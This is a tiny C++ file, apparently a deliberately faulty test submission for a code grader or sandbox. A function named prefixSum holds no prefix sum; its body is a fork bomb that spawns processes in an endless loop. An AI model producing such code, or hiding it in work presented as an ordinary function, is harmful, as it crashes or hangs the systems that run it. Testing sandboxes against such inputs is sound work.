// hung|crashed|wrong answer: a fork bomb
#include <unistd.h>

void prefixSum(std::vector<double> const& x, std::vector<double> &output) {
    for (;;)
        if (fork() < 0) usleep(1000);
}
